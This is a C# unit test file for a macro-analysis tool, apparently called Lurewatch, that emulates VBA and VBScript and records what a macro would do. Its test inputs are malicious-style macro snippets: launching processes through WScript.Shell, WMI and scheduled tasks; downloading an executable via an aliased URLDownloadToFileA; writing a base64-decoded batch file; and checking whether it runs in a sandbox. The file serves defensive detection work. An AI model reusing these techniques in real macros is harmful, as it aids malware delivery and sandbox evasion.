using Lurewatch.Scripts;
using Shouldly;
using Xunit;

namespace Lurewatch.Tests.Scripts.Vba.Emulation;

/// <summary>Objects that record.</summary>
public sealed class VbaObjectTests
{
    [Theory]
    [InlineData("CreateObject(\"WScript.Shell\").Run \"x\", 0, False")]
    [InlineData("CreateObject(\"WScript.Shell\").Exec \"x\"")]
    [InlineData("Set s = CreateObject(\"Shell.Application\")\ns.ShellExecute \"x\"")]
    [InlineData("GetObject(\"winmgmts:Win32_Process\").Create \"x\", Null, Null, pid")]
    [InlineData("GetObject(\"winmgmts:root\\cimv2:Win32_Process\").Create \"x\", Null, Null, pid")]
    [InlineData("Set w = GetObject(\"winmgmts:{impersonationLevel=impersonate}!\\\\.\\root\\cimv2\")\nSet p = w.Get(\"Win32_Process\")\np.Create \"x\"")]
    [InlineData("Set l = CreateObject(\"WbemScripting.SWbemLocator\")\nSet w = l.ConnectServer()\nSet st = w.Get(\"Win32_ProcessStartup\").SpawnInstance_\nst.ShowWindow = 0\nw.Get(\"Win32_Process\").Create \"x\", Null, st, p")]
    [InlineData("GetObject(\"new:72C24DD5-D70A-438B-8A42-98424B88AFB8\").Run \"x\"")]
    [InlineData("GetObject(\"new:{C08AFD90-F2A1-11D1-8455-00A0C91F3880}\").Document.Application.ShellExecute \"x\", \"\", \"\", Null, 0")]
    [InlineData("Set s = CreateObject(\"Schedule.Service\")\ns.Connect\nSet d = s.NewTask(0)\nSet a = d.Actions.Create(0)\na.Path = \"x\"\ns.GetFolder(\"\\\").RegisterTaskDefinition \"t\", d, 6, , , 3")]
    [InlineData("Set o = New WshShell\no.Run \"x\"")]
    [InlineData("Application.ExecuteExcel4Macro \"EXEC(\"\"x\"\")\"")]
    public void Every_way_to_start_a_program_is_recorded(string body) => Emulated.Runs(body).ShouldBe(["x"]);

    [Theory]
    [InlineData("Set h = CreateObject(\"MSXML2.XMLHTTP\")\nh.Open \"GET\", \"http://a.example/x\", False\nh.Send")]
    [InlineData("With CreateObject(\"WinHttp.WinHttpRequest.5.1\")\n.Open \"GET\", \"http://a.example/x\"\n.Send\nEnd With")]
    [InlineData("ActiveDocument.FollowHyperlink \"http://a.example/x\"")]
    [InlineData("CreateObject(\"InternetExplorer.Application\").Navigate \"http://a.example/x\"")]
    [InlineData("Documents.Open \"http://a.example/x\"")]
    [InlineData("GetObject \"script:http://a.example/x\"")]
    public void Every_way_to_fetch_an_address_is_recorded(string body) => Emulated.Of(body, ScriptActionKind.Fetch).ShouldBe(["http://a.example/x"]);

    [Fact]
    public void A_declared_function_is_recorded_by_its_real_name()
    {
        var record = Emulated.Macro("""
            Private Declare PtrSafe Function Innocent Lib "urlmon" Alias "URLDownloadToFileA" (ByVal a As Long, ByVal b As String, ByVal c As String, ByVal d As Long, ByVal e As Long) As Long
            Sub AutoOpen()
            Innocent 0, "http://a.example/x.exe", "C:\x.exe", 0, 0
            End Sub
            """).Record;
        record.Actions.ShouldHaveSingleItem().ShouldBe(new ScriptAction(ScriptActionKind.Fetch, "http://a.example/x.exe", @"C:\x.exe", record.Actions[0].Steps));
        record.Actions[0].Steps.ShouldBe(["AutoOpen", "URLDownloadToFileA"]);
    }

    [Fact]
    public void Base64_by_an_xml_element_and_a_stream_becomes_the_file()
    {
        var record = Emulated.Macro("""
            Set x = CreateObject("MSXML2.DOMDocument").createElement("b")
            x.DataType = "bin.base64"
            x.Text = "ZWNobyBoaQ=="
            Set s = CreateObject("ADODB.Stream")
            s.Type = 1
            s.Open
            s.Write x.nodeTypedValue
            s.SaveToFile "C:\x\a.bat", 2
            """).Record;
        System.Text.Encoding.ASCII.GetString(record.Files.Single().Bytes.Span).ShouldBe("echo hi");
        record.Files.Single().Name.ShouldBe("a.bat");
    }

    [Fact]
    public void A_file_system_object_writes_reads_back_and_copies()
    {
        var record = Emulated.Macro("""
            Set f = CreateObject("Scripting.FileSystemObject")
            Set t = f.CreateTextFile("C:\a.js", True)
            t.WriteLine "var x = 1;"
            t.Write "x++;"
            t.Close
            Shell "echo " & f.OpenTextFile("C:\a.js", 1).ReadAll
            """).Record;
        record.Actions[0].Target.ShouldBe("echo var x = 1;\r\nx++;");
        record.Files.ShouldContain(file => file.Name == "a.js");
    }

    [Fact]
    public void A_script_runs_from_its_first_line_with_classes_and_code_that_it_makes() => Emulated.Script(""""
        Class C
            Private v
            Public Property Let Text(x)
                v = x
            End Property
            Public Function Both(y)
                Both = v & y
            End Function
        End Class
        Dim o: Set o = New C
        o.Text = "a"
        WScript.CreateObject("WScript.Shell").Run o.Both("b")
        Execute "Function G(z): G = z & ""!"": End Function"
        ExecuteGlobal "k = ""made"""
        CreateObject("WScript.Shell").Run G(k) & Eval("1+2")
        """").ShouldBe(["ab", "made!3"]);

    [Fact]
    public void A_machine_that_is_asked_whether_it_is_real_says_so() => Emulated.Runs("""
        If Application.RecentFiles.Count < 5 Then Exit Sub
        If Tasks.Count < 10 Then Exit Sub
        For Each q In GetObject("winmgmts:\\.\root\cimv2").ExecQuery("Select * from Win32_ComputerSystem")
        If q.NumberOfLogicalProcessors < 2 Then Exit Sub
        Next
        For Each p In GetObject("winmgmts:").ExecQuery("Select * from Win32_Process where name = 'vboxservice.exe'")
        Exit Sub
        Next
        Shell "x"
        """).ShouldBe(["x"]);

    [Fact]
    public void Nothing_that_starts_by_itself_still_tells_what_it_would_do_by_hand()
    {
        var emulation = Emulated.Macro("Sub Helper()\nShell \"x\"\nEnd Sub");
        emulation.StartsItself.ShouldBeFalse();
        emulation.Record.Actions.ShouldHaveSingleItem().Steps.ShouldBe(["Helper", "Shell"]);
    }
}
